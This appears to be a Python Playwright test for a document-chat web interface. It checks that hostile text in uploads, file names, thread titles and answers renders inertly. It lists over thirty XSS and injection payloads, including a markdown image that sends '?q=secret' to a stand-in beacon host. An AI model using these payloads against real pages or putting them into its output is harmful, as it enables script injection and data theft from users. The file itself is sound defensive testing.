"""Hostile text in documents and answers: no request, no script, nothing moved on the page."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

from scripted import Scripted

BEACON = "https://beacon.test/p"
PAYLOADS = [
    "<script>window.hacked=1</script>",
    f"<img src={BEACON}.png onerror=window.hacked=1>",
    f"![]({BEACON}?q=secret)",
    f"![a][b]\n\n[b]: {BEACON}.png",
    "[go](javascript:window.hacked=1)",
    f"[go]({BEACON})",
    f"<svg onload=window.hacked=1><image href='{BEACON}'/></svg>",
    f"<iframe src={BEACON}></iframe>",
    f"```mermaid\ngraph TD; A-->B; click A href '{BEACON}'\n```",
    "<style>*{display:none!important}</style>",
    f"<link rel=stylesheet href={BEACON}.css>",
    f"<meta http-equiv=refresh content='0;url={BEACON}'>",
    f"<base href={BEACON}>",
    f"<form action={BEACON}><input autofocus></form>",
    "<div style='position:fixed;inset:0;z-index:999999;background:red'>over</div>",
    "<details open ontoggle=window.hacked=1>x</details>",
    f"<video src={BEACON}.mp4 autoplay></video>",
    f"<audio src={BEACON}.mp3 autoplay></audio>",
    f"<object data={BEACON}></object>",
    f"<embed src={BEACON}>",
    "<a href=javascript:window.hacked=1 id=cite-1>x</a>",
    "<input onfocus=window.hacked=1 autofocus>",
    "<marquee onstart=window.hacked=1>x</marquee>",
    "<math><mtext><script>window.hacked=1</script></mtext></math>",
    "\u202e\u2066reversed\u2069",
    "${window.hacked=1}",
    "{{constructor.constructor('window.hacked=1')()}}",
    "<template><script>window.hacked=1</script></template>",
    "# </div></div></article><script>window.hacked=1</script>",
    "</textarea></title><script>window.hacked=1</script>",
    "<longdoc-frame onclick=window.hacked=1>",
    "a" + "\u0301" * 300,
]


def test_hostile_text_stays_text(serve_with: Callable[..., Any], open_page: Callable[..., Any], tmp_path: Path) -> None:
    from longdoc.ui.library import LibraryCalls

    backend = Scripted({})
    server = serve_with(backend)
    note = server.context.received / "x.txt"
    everything = "\n\n".join(PAYLOADS)
    note.write_text(f"Preface.\n\n{everything}\n", encoding="utf-8")
    name = "<img src=x onerror=window.hacked=1>.txt"
    job = LibraryCalls(server.context).add_upload(str(note), name)
    assert server.context.worker.wait(job, 30).state == "done"
    backend.script = {f"question {n}": ("", text) for n, text in enumerate(PAYLOADS, 100)}
    document = server.context.library.documents()[0].document_id
    thread = server.context.library.add_thread("<script>window.hacked=1</script>", [document])
    from longdoc.ui.conversation import ConversationCalls

    talk = ConversationCalls(server.context)
    for n, text in enumerate(PAYLOADS, 100):
        asked = talk.ask([{"id": document}], f"question {n} {text}", thread=thread)
        assert server.context.worker.wait(asked["job"], 30).state == "done"

    page = open_page(server)
    box = page.locator(".ld-library").bounding_box()
    page.get_by_role("combobox", name="Conversation").select_option(str(thread))
    page.wait_for_function("document.querySelectorAll('article.ld-turn').length >= 30")
    page.get_by_role("button", name="Show 2 earlier").click()
    page.wait_for_function(f"document.querySelectorAll('article.ld-turn').length === {len(PAYLOADS)}")
    title = page.locator(".ld-library .ld-title")
    assert title.inner_text() == server.context.library.documents()[0].title
    title.click()
    page.locator(".ld-reader .ld-plain").wait_for()
    assert "window.hacked=1</script>" in page.locator(".ld-reader .ld-plain").inner_text()
    page.wait_for_timeout(300)
    assert page.evaluate("window.hacked") is None
    assert (
        page.locator(".ld-answer :is(script, img, iframe, svg, style, form, video, audio, object, embed)").count() == 0
    )
    assert page.locator(".ld-answer a:not(.ld-cite)").count() == 0
    assert page.locator(".ld-answer [style]:not([style^='text-align'])").count() == 0
    assert page.locator(".ld-library").bounding_box()["height"] == box["height"]
    assert page.url == server.url
